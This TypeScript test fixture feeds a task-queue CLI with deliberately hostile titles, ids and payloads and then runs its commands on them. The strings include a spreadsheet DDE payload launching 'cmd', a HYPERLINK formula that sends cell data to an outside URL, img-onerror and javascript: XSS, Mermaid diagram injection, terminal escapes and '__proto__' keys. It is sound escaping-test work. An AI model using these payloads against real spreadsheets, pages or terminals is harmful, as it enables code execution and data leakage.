import { type CliWorkspace, ndjson } from '../support/cli-workspace.ts'

/** Texts that a spreadsheet, a graph language, JSON, HTML, a shell or a terminal could interpret. */
export const hostileTexts: ReadonlyArray<string> = [
  '=HYPERLINK("http://example.com/?"&A1,"click")',
  '+1+cmd|"/C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '＝1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  "'",
  '',
  ' ',
  'a "quoted" word, a comma; and\r\nlines\nmore',
  '"]; t1 --> t2',
  '%%{init: {"theme": "dark"}}%%',
  'subgraph x\nend',
  'style t2 fill:#f00; classDef x fill:#00f;',
  'click t2 "javascript:alert(1)"',
  '#quot; #35; #59; &quot; &amp;lt; &#34;',
  '\\N \\G \\" \\',
  '<b>bold</b><img src=x onerror=alert(1)><br/>',
  '`**md**` _a_ ~b~ [c](d)',
  '{{ [[ (( > | || }} ]] ))',
  'שלום עולם',
  'مرحبا 12',
  '日本語 🧑‍🚀 é ﬂ°°34¶ß',
  'a\u202eb\u2066c\u200fd',
  'a\u0000b \\u0000 %00',
  '\u001b[31mred\u0007',
  '__proto__',
  'null',
  '1e5',
  '2026-01-31',
]

/** Ids of the same sort, within the rules for ids. */
const hostileIds = [
  '=1+1',
  '"];',
  '-->',
  '%%x',
  '__proto__',
  'constructor',
  'end',
  '#quot;',
  '\\N',
  '@x',
  '<b>',
  'שלום',
  '🧑',
  "'",
  'a,b',
]

const kinds = ['docs', 'c"i\\', '__proto__', '=x']

/** The id of the task with the i-th hostile text. */
export const hostileId = (i: number): string => hostileIds[i] ?? `t${i}`

/** Adds one task per hostile text, some with dependencies, and applies every command to them. */
export const addHostileTasks = async (workspace: CliWorkspace): Promise<void> => {
  const text = (i: number): string => hostileTexts[i] ?? ''
  const tasks = hostileTexts.map((title, i) => ({
    kind: kinds[i % kinds.length],
    task_id: hostileId(i),
    title,
    payload: i % 2 === 0 ? title : { [title]: [title, -1, null] },
    ...(i >= 20 ? { needs: [hostileId(i - 1), hostileId(i - 20)] } : {}),
    ...(i === 13 ? { not_before: '2100-01-01T00:00:00.000Z' } : {}),
    ...(i % 3 === 0 ? { tags: ['=tag', `t"${i}`], key: `-k${i}`, priority: 3 } : {}),
  }))
  await workspace.runOk(['add', '-'], ndjson(...tasks))
  const runOk = (...words: ReadonlyArray<string>) => workspace.runOk(words)
  await runOk('claim', '=ann', '--count', '12', '--lease', 'none')
  await runOk('renew', '=ann', hostileId(0), '--progress', JSON.stringify(text(0)), '--lease', '1h')
  await runOk('note', hostileId(0), text(28), '--by', '@eve')
  await runOk('complete', '=ann', hostileId(0), '--result', JSON.stringify({ [text(9)]: text(13) }))
  await runOk('fail', '=ann', hostileId(3), '--error', text(12), '--no-retry')
  await runOk('fail', '=ann', hostileId(6), '--error', text(19), '--retry-in', '0')
  await runOk('release', '=ann', hostileId(9), '--reason', text(16))
  await runOk('claim', 'b"o]b', '--task', hostileId(6), '--lease', '1ms')
  await runOk('claim', '=ann', '--task', hostileId(6), '--lease', 'none')
  await runOk('hold', hostileId(8), '--reason', text(4), '--by', '-eve')
  await runOk('cancel', hostileId(5), '--reason', text(20), '--by', '-eve')
  await runOk('complete', '=ann', hostileId(6), '--result', '-5')
  await runOk('retry', hostileId(0), '--reason', text(14))
  await runOk('pause', '=x', '--reason', text(1))
}
